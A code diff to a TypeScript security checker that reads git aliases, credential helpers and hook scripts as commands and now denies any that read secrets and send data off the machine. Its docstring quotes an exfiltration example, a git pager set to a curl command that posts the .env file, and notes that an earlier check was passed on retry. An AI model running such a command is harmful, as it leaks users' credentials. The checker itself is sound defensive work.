@@ -33,12 +33,12 @@ function judgeSetting(c: Sink, key: string, value: string, dir: string, how: str
   if (!v) return
   if (k.startsWith('alias.')) {
     // `!cmd` runs a shell; otherwise it is git's own subcommand with these words (`push --force origin main`).
-    c.shell(v.startsWith('!') ? v.slice(1) : `git ${v}`)
+    runsLater(c, v.startsWith('!') ? v.slice(1) : `git ${v}`, how)
     return
   }
   if (/(^|\.)helper$/.test(k)) {
-    if (v.startsWith('!')) c.shell(v.slice(1))
-    else if (!HELPER_NAMES.test(v)) c.shell(v.includes('/') ? `${v} get` : `git-credential-${v} get`)
+    if (v.startsWith('!')) runsLater(c, v.slice(1), how)
+    else if (!HELPER_NAMES.test(v)) runsLater(c, v.includes('/') ? `${v} get` : `git-credential-${v} get`, how)
     return
   }
   if (k === 'core.hookspath') return hooksFolder(c, path.posix.resolve(dir, v.replace(/^~(?=\/|$)/, c.ctx.homeDir)), how)
@@ -49,7 +49,21 @@ function judgeSetting(c: Sink, key: string, value: string, dir: string, how: str
     else if (depth < 3) configText(c, text, dir, `${how} (included ${v})`, depth + 1)
     return
   }
-  c.shell(v)
+  runsLater(c, v, how)
+}
+
+/**
+ * Code git runs later, outside any hook, read now as a command. What it would send cannot be shown to a human
+ * when it runs, so code that reads a secret and sends anything off the machine is denied now (a check whose retry
+ * passes let `git -c core.pager='curl -d @.env …' log` send the file).
+ */
+function runsLater(c: Sink, command: string, how: string): void {
+  const findings = c.findings.length
+  const secrets = new Set(c.secrets)
+  c.shell(command)
+  const read = [...c.secrets].filter((s) => !secrets.has(s))
+  const send = c.findings.slice(findings).find((f) => f.class === 'public_surface')
+  if (read.length && send) c.add('unreadable', `${how}: git would run this later, outside any hook, and it reads ${read.slice(0, 3).join(', ')} and sends data off the machine (${send.detail})`, true)
 }
 
 /** A hooks folder: every hook in it runs on a later commit, checkout, merge or push. Read each one now. */
@@ -73,8 +87,8 @@ function hookText(c: Sink, file: string, text: string | undefined, how: string):
     return
   }
   const lang = scriptLang(text, file, 'shell')
-  if (lang === 'shell' || lang === undefined) c.shell(text)
-  else c.shell(`${lang === 'python' ? 'python3' : lang} -${lang === 'python' ? 'c' : 'e'} ${quote(text)}`)
+  if (lang === 'shell' || lang === undefined) runsLater(c, text, how)
+  else runsLater(c, `${lang === 'python' ? 'python3' : lang} -${lang === 'python' ? 'c' : 'e'} ${quote(text)}`, how)
 }
 
 const quote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`
